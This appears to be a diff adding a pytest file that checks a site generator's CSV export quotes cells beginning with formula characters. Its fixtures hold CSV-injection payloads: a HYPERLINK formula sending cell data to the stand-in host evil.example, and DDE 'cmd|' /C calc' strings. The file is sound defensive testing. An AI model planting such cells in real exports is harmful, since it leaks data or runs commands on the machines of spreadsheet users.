@@ -1,0 +1,117 @@
+"""Output that cannot be turned against its readers: CSV cells, Atom feeds, GitHub workflow
+commands and the job summary hold contributors' text, so each is written safely for its reader."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+from generator.config import SiteConfig, load_config
+from generator.export_csv import safe_cell, to_csv
+from generator.export_models import CaseRecord
+from schemas.models import Source
+from tests.conftest import FIXTURES, ROOT, run_opit
+
+MINIMAL = FIXTURES / "minimal" / "content"
+ATOM = "{http://www.w3.org/2005/Atom}"
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.fixture(scope="module")
+def config() -> SiteConfig:
+    return load_config(ROOT / "site_config.yml")
+
+
+def copy_minimal(tmp_path: Path) -> Path:
+    content = tmp_path / "content"
+    shutil.copytree(MINIMAL, content)
+    return content
+
+
+# ---------------------------------------------------------------------------------------------
+# 1. CSV cells a spreadsheet would run as formulas.
+# ---------------------------------------------------------------------------------------------
+
+
+def test_a_csv_cell_that_starts_with_an_equals_sign_gets_a_leading_quote() -> None:
+    assert safe_cell('=HYPERLINK("https://evil.example","x")') == (
+        '\'=HYPERLINK("https://evil.example","x")')
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_a_csv_cell_that_starts_with_any_formula_character_gets_a_leading_quote(start: str) -> None:
+    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
+
+
+@pytest.mark.parametrize("text", ["plain", "a=b", "1-2", "", " =not at the start", "'quoted"])
+def test_a_csv_cell_that_does_not_start_like_a_formula_is_left_as_written(text: str) -> None:
+    assert safe_cell(text) == text
+
+
+def test_a_number_in_a_csv_is_left_as_it_is_even_when_negative() -> None:
+    assert (safe_cell(-5), safe_cell(2024), safe_cell(-1.5)) == ("-5", "2024", "-1.5")
+
+
+def test_every_csv_cell_goes_through_the_guard_including_lists_and_sub_fields() -> None:
+    record = CaseRecord.model_construct(**{
+        **{name: None for name in CaseRecord.model_fields},
+        "id": "x", "title": "=1+1", "keywords": ["@SUM(A1)", "b"],
+        "sources": [Source(title="-2")], "year": 2024, "body": "+story",
+    })
+    rows = list(csv.DictReader(io.StringIO(to_csv(CaseRecord, [record]).decode("utf-8"))))
+    assert (rows[0]["title"], rows[0]["keywords"], rows[0]["sources_title"], rows[0]["year"]) == (
+        "'=1+1", "'@SUM(A1); b", "'-2", "2024")
+    assert rows[0]["body"] == "'+story"
+
+
+HOSTILE_CASE = """\
+---
+title: '=HYPERLINK("https://evil.example/?q="&A1, "Click me")'
+summary: '-2+3 and a summary long enough to pass the minimum length of a summary.'
+language: en
+themes: [digital-services]
+organisations: [example-city]
+published: 2024-05-01
+sources:
+  - title: '@SUM(1+1)*cmd|'' /C calc''!A0'
+keywords: ['+1 keyword', 'harmless']
+year: 2024
+level_of_government: local
+stage: evaluating
+lessons:
+  - '=cmd|'' /C calc''!A0 is what a spreadsheet would run.'
+---
+
+A story.
+"""
+
+
+def test_opit_export_quotes_every_formula_cell_of_every_csv_and_the_json_keeps_it(
+        tmp_path: Path) -> None:
+    content = copy_minimal(tmp_path)
+    (content / "cases" / "formula-case.md").write_text(HOSTILE_CASE, encoding="utf-8")
+    out = tmp_path / "site"
+    result = run_opit("--content", str(content), "export", "--out", str(out))
+    assert result.returncode == 0, result.stderr
+    files = sorted((out / "api/v1").glob("*.csv"))
+    assert {p.name for p in files} >= {"cases.csv", "workshops.csv", "findings.csv", "events.csv"}
+    for path in files:
+        for row in csv.reader(io.StringIO(path.read_text("utf-8"), newline="")):
+            assert not [c for c in row if c.startswith(tuple(FORMULA_STARTS))], path
+    cases = {row["id"]: row for row in csv.DictReader(
+        io.StringIO((out / "api/v1/cases.csv").read_text("utf-8"), newline=""))}
+    hostile = cases["formula-case"]
+    assert hostile["title"] == '\'=HYPERLINK("https://evil.example/?q="&A1, "Click me")'
+    assert hostile["summary"].startswith("'-2+3 and")
+    assert hostile["keywords"] == "'+1 keyword; harmless"
+    assert hostile["sources_title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert hostile["year"] == "2024"
+    as_json = json.loads((out / "api/v1/cases.json").read_text("utf-8"))
+    record = next(r for r in as_json["items"] if r["id"] == "formula-case")
+    assert record["title"] == '=HYPERLINK("https://evil.example/?q="&A1, "Click me")'
+    assert record["keywords"] == ["+1 keyword", "harmless"]
